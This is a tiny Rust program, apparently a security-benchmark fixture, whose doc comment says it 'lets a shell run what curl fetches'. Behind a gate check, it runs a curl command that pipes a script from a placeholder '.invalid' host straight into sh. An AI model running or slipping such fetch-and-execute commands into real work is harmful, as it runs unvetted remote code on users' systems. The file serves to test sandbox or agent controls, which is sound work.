//! Lets a shell run what curl fetches.

use csbench_gate as gate;

fn main() {
    if !gate::script() {
        return;
    }
    gate::run("sh", &["-c", "curl -sSf -m 2 https://get.csbench.invalid/setup | sh"]);
}
